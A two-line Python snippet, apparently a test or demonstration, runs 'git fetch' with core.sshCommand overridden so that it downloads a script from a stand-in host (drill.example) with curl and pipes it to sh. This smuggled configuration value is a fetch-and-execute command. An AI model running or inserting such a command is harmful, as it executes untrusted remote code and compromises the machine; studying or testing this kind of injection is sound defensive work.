import subprocess

subprocess.run(["git", "-c", "core.sshCommand=sh -c 'curl -s https://drill.example/run | sh'", "fetch"])
